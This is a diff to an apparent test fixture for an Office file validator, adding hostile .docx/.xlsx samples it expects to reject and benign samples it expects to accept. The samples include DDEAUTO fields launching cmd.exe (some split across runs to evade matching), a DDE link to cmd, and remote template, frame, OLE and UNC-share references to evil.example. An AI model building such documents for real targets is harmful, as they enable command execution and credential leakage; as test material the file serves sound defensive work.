@@ -127,7 +127,7 @@ export const hostileFiles: [string, string, Buffer, string][] = [
     'a list of parts with a DTD',
     'a.docx',
     makeZip(withTypes((types) => types.replace('<Types', '<!DOCTYPE a [<!ENTITY b "c">]><Types'))),
-    'file-broken',
+    'file-has-entities',
   ],
   ['a docx with macros', 'a.docx', makeZip({ ...docx, 'word/vbaProject.bin': 'x' }), 'file-has-macros'],
   [
@@ -161,6 +161,82 @@ export const hostileFiles: [string, string, Buffer, string][] = [
     'a.xlsx',
     makeZip({ ...xlsxParts('a', []), 'xl/macrosheets/sheet1.xml': '<a/>' }),
     'file-has-macros',
+  ],
+  [
+    'a docx with a DDE field',
+    'a.docx',
+    withField('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
+    'file-has-dde',
+  ],
+  ['a docx with a DDE field in pieces', 'a.docx', withField('D', 'D&#69;', ' c:\\\\cmd.exe'), 'file-has-dde'],
+  [
+    'a docx with a simple DDE field',
+    'a.docx',
+    withBody('<x:fldSimple x:instr=" dde excel file a1"><x:r/></x:fldSimple>'),
+    'file-has-dde',
+  ],
+  [
+    'an xlsx with a DDE link',
+    'a.xlsx',
+    makeZip({
+      ...xlsxParts('a', []),
+      'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
+    }),
+    'file-has-dde',
+  ],
+  [
+    'a docx with a template from elsewhere',
+    'a.docx',
+    related('attachedTemplate', 'http://evil.example/a.dotm'),
+    'file-loads-from-elsewhere',
+  ],
+  [
+    'a docx with a frame from elsewhere',
+    'a.docx',
+    related('frame', 'http://evil.example/'),
+    'file-loads-from-elsewhere',
+  ],
+  [
+    'a docx with an object from elsewhere',
+    'a.docx',
+    related('oleObject', 'http://evil.example/a.rtf'),
+    'file-loads-from-elsewhere',
+  ],
+  [
+    'a docx with a picture on a foreign share',
+    'a.docx',
+    related('image', '\\\\evil.example\\share\\a.png'),
+    'file-loads-from-elsewhere',
+  ],
+  [
+    'a docx with an embedded object',
+    'a.docx',
+    related('oleObject', 'embeddings/a.bin', 'Internal'),
+    'file-has-objects',
+  ],
+  [
+    'a docx with an embedded program',
+    'a.docx',
+    makeZip({ ...docx, 'word/embeddings/oleObject1.bin': 'x' }),
+    'file-has-objects',
+  ],
+  [
+    'a docx with entities',
+    'a.docx',
+    makeZip({
+      ...docx,
+      'word/document.xml': `<!DOCTYPE a [<!ENTITY b "c">]>${String(docx['word/document.xml'])}`,
+    }),
+    'file-has-entities',
+  ],
+  [
+    'a docx with words in two bytes each',
+    'a.docx',
+    makeZip({
+      ...docx,
+      'word/document.xml': Buffer.from(`\ufeff${String(docx['word/document.xml'])}`, 'utf16le'),
+    }),
+    'file-broken',
   ],
   [
     'a zip bomb',
@@ -197,6 +273,45 @@ export const hostileFiles: [string, string, Buffer, string][] = [
     'a.docx',
     Buffer.concat([Buffer.from('MZ program'), goodDocx]),
     'file-of-two-formats',
+  ],
+]
+
+/** The body of a document with this markup before its end. */
+function withBody(markup: string): Buffer {
+  const body = String(docx['word/document.xml'])
+  return makeZip({ ...docx, 'word/document.xml': body.replace(/<\/(w:)?body>/, `${markup}$&`) })
+}
+
+/** A field whose instruction is spread over several runs. */
+function withField(...instruction: string[]): Buffer {
+  const runs = instruction.map(
+    (piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`,
+  )
+  return withBody(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.join('')}</w:p>`)
+}
+
+/** A document that refers to something by a relationship of this type. */
+function related(type: string, target: string, mode = 'External'): Buffer {
+  return makeZip({ ...docx, ...relationship(type, target, mode) })
+}
+
+function relationship(type: string, target: string, mode: string): Record<string, string> {
+  const kind = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}`
+  return {
+    'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="${kind}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
+  }
+}
+
+/** What ordinary documents have: links to click, pictures and fields of their own. */
+export const lawfulFiles: [string, string, Buffer][] = [
+  ['a hyperlink', 'a.docx', related('hyperlink', 'https://adilet.zan.kz/')],
+  ['a picture that is kept elsewhere', 'a.docx', related('image', 'file:///C:/Users/a/Pictures/logo.png')],
+  ['a field with the number of the page', 'a.docx', withField(' PAGE ', ' \\* MERGEFORMAT ')],
+  ['the word DDE in its text', 'a.docx', withBody('<w:p><w:r><w:t>DDEAUTO</w:t></w:r></w:p>')],
+  [
+    'a chart with its numbers',
+    'a.docx',
+    makeZip({ ...docx, 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': goodXlsx }),
   ],
 ]
 
